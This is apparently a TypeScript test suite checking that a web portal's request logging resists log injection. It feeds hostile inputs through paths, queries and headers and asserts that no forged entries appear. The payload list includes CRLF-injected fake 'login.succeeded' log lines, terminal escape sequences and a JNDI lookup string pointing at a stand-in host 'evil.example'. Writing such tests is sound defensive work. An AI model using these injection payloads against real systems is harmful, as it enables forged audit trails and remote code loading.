import { anId } from "@dvd/api/testing/sealing";
import { afterAll, beforeEach, describe, expect, it } from "vitest";
import { say } from "./testing/client.ts";
import { openEdge } from "./testing/edge.ts";

const edge = await openEdge();
const { logLines } = edge;
const { url } = await edge.open();
afterAll(() => edge.close());
beforeEach(() => {
  logLines.length = 0;
});

const forged = `{"level":"info","event":"login.succeeded","accountId":"forged"}`;
const hostile: [what: string, text: string][] = [
  ["a line break", `\r\n${forged}\r\n`],
  ["a bare line feed", `\n${forged}\n`],
  ["a bare carriage return", `\r${forged}`],
  ["a line break that is only written", `%0d%0a${encodeURIComponent(forged)}`],
  ["colours and commands of a terminal", "\u001b[31m\u001b]0;forged\u0007\u001b[2J"],
  ["a line separator of Unicode", `\u2028${forged}\u2029${forged}\u0085`],
  ["a zero", `\u0000${forged}`],
  ["the end of a text", `","event":"forged`],
  ["what looks like an instruction", "${jndi:ldap://evil.example/forged}"],
];
/** Wherever a stranger's words could get into a line: path, query, headers that other systems repeat. */
const places: [where: string, request: (text: string) => string][] = [
  ["the path", (text) => `GET /api/trpc/a${text} HTTP/1.1\r\nhost: portal.test\r\n`],
  ["the name of a document", (text) => `GET /api/documents/${anId()}${text}/body HTTP/1.1\r\nhost: portal.test\r\n`],
  ["the query", (text) => `GET /api/trpc/cases.listOwnCases?input=${text} HTTP/1.1\r\nhost: portal.test\r\n`],
  ["the method", (text) => `GET${text} /api/nope HTTP/1.1\r\nhost: portal.test\r\n`],
  ...["user-agent", "x-request-id", "x-correlation-id", "traceparent", "x-forwarded-for", "referer"].map(
    (name): [string, (text: string) => string] => [
      name,
      (text) => `GET /api/nope HTTP/1.1\r\nhost: portal.test\r\n${name}: ${text}\r\n`,
    ],
  ),
];

type Line = { event: string; correlationId: string };
const linesRead = () => logLines.map((line): Line => JSON.parse(line) as Line);

describe.each(places)("%s", (_where, request) => {
  const sayWith = (text: string) => say(url, Buffer.from(`${request(text)}connection: close\r\n\r\n`));

  it.each(hostile)("with %s makes no line, no field and no id of its own", async (_what, text) => {
    await sayWith("harmless");
    const events = new Set(linesRead().map(({ event }) => event));
    const count = logLines.length;
    logLines.length = 0;
    await sayWith(text);
    const lines = linesRead();
    expect(lines.length).toBeLessThanOrEqual(count);
    for (const line of logLines) expect(line.match(/[\p{Cc}\p{Zl}\p{Zp}]/gu)).toEqual(["\n"]);
    for (const { event, correlationId } of lines) {
      expect(events).toContain(event);
      expect(correlationId).toMatch(/^[0-9a-f-]{36}$/);
    }
    expect(logLines.join("")).not.toMatch(/login\.succeeded|accountId|jndi|\$\{/);
  });
});

describe("a request", () => {
  it("that says which number it has is given another", async () => {
    const claimed = anId();
    const trace = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";
    const answer = await say(
      url,
      `GET /api/nope HTTP/1.1\r\nhost: portal.test\r\nx-request-id: ${claimed}\r\nx-correlation-id: ${claimed}\r\ntraceparent: ${trace}\r\nconnection: close\r\n\r\n`,
    );
    const [line] = linesRead();
    expect(answer).toContain(`x-correlation-id: ${line?.correlationId}`);
    for (const text of [answer, logLines.join("")]) {
      expect(text).not.toContain(claimed);
      expect(text).not.toContain("0af7651916cd43dd8448eb211c80319c");
    }
  });

  it("with a megabyte of a browser's name is refused before there is a line", async () => {
    const answer = await say(
      url,
      `GET /api/nope HTTP/1.1\r\nhost: portal.test\r\nuser-agent: ${"x".repeat(1_048_576)}\r\n\r\n`,
    );
    // The rest of it was still under way when the answer came, so the answer may be lost with the connection.
    expect(answer).toMatch(/^(?:HTTP\/1\.1 431 |$)/);
    expect(logLines).toEqual([]);
  });

  it("has one line, however long its path is", async () => {
    await say(url, `GET /api/${"x".repeat(4_000)} HTTP/1.1\r\nhost: portal.test\r\nconnection: close\r\n\r\n`);
    expect(linesRead()).toEqual([expect.objectContaining({ event: "http.request" })]);
    expect(logLines.join("").length).toBeLessThan(400);
  });
});
